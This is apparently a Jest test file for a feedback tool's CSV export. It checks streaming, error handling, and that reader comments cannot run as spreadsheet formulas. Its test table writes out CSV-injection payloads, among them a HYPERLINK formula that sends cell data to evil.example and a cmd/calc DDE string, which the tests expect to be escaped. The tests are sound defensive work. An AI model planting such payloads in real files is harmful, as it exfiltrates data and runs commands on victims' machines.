/** The report in a spreadsheet: nothing that a reader wrote is run there. */
import { once } from 'node:events';
import type { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { setImmediate } from 'node:timers/promises';
import { describe, expect, test } from '@jest/globals';
import { createCommentsCsv, createPagesCsv } from '@/services/feedback/reportCsv';

const comment = (words: string, section = '') => ({
  page: '/a/',
  section,
  rating: 'down' as const,
  comment: words,
  language: 'en',
  version: '6.4.1',
  changedAt: '2026-01-02T03:04:05.678Z',
});

/** A file in two parts at least, the last of which is empty. */
async function* list<Row>(...rows: Row[]): AsyncGenerator<Row[]> {
  for (const row of rows) {
    yield await Promise.resolve([row]);
  }
  yield [];
}

/** With the byte order mark, which decoders of streams leave out. */
const text = async (file: Promise<Readable>) => (await buffer(await file)).toString();

const write = (...comments: ReturnType<typeof comment>[]) =>
  text(createCommentsCsv(list(...comments)));

test('pages: a line per page and section, with the number of comments', async () => {
  const sections = list(
    { page: '/a/', section: '', up: 1, down: 2, comments: 1 },
    { page: '/a/', section: 'usage', up: 2, down: 0, comments: 2 },
  );
  expect(await text(createPagesCsv(sections))).toBe(
    '\ufeff"page","section","up","down","comments"\r\n"/a/","",1,2,1\r\n"/a/","usage",2,0,2\r\n',
  );
});

test('an empty list has only the line of column names', async () => {
  expect(await text(createPagesCsv(list()))).toBe(
    '\ufeff"page","section","up","down","comments"\r\n',
  );
});

test('parts are read as fast as the client takes them, and no more of them when it is gone', async () => {
  let count = 0;
  async function* endless() {
    for (;;) {
      count += 1;
      yield await Promise.resolve([comment('x'.repeat(4000))]);
    }
  }
  const csv = await createCommentsCsv(endless());
  await once(csv, 'readable');
  csv.read();
  await setImmediate();
  expect(count).toBeLessThan(5);
  csv.destroy();
  await once(csv, 'close');
  const last = count;
  await setImmediate();
  expect(count).toBe(last);
});

async function* failAfter(parts: number) {
  for (let part = 0; part < parts; part += 1) {
    yield await Promise.resolve([comment('x')]);
  }
  throw new Error('gone');
}

test('an error in the first part comes before the file, so that the answer can have its status', async () => {
  await expect(createCommentsCsv(failAfter(0))).rejects.toThrow('gone');
});

test('a later error ends the file, so that it does not pass for a whole one', async () => {
  const csv = await createCommentsCsv(failAfter(1));
  await expect(text(Promise.resolve(csv))).rejects.toThrow('gone');
});

describe('comments', () => {
  const findCell = async (words: string) => {
    const start = '\ufeff"page","section","rating","comment","language","version","changed"\r\n';
    const csv = await write(comment(words));
    expect(csv.startsWith(`${start}"/a/","","down",`)).toBe(true);
    expect(csv.endsWith(',"en","6.4.1","2026-01-02T03:04:05.678Z"\r\n')).toBe(true);
    return csv.slice(start.length + '"/a/","","down",'.length, -',"en","6.4.1",'.length - 28);
  };

  test.each([
    ['=HYPERLINK("http://evil.example?"&A1)', '"\'=HYPERLINK(""http://evil.example?""&A1)"'],
    ['+1', '"\'+1"'],
    ["-1+cmd|' /C calc'!A0", "\"'-1+cmd|' /C calc'!A0\""],
    ['@SUM(1)', '"\'@SUM(1)"'],
    ['\t=1', '"\'\t=1"'],
    ['\r=1', '"\'\r=1"'],
    ['＝1', '"\'＝1"'],
    ['-section', '"\'-section"'],
    // Quotes and separators end no cell, so that none begins with what follows them.
    ['a";=1;"', '"a"";=1;"""'],
    ['a,=1', '"a,=1"'],
    ['two\nlines', '"two\nlines"'],
    ['plain – ünï', '"plain – ünï"'],
  ])('%j is %s', async (words, cell) => {
    expect(await findCell(words)).toBe(cell);
  });

  test('a section that begins like a formula is one text, too', async () => {
    expect(await write(comment('x', '-1'))).toContain('"/a/","\'-1","down","x"');
  });
});
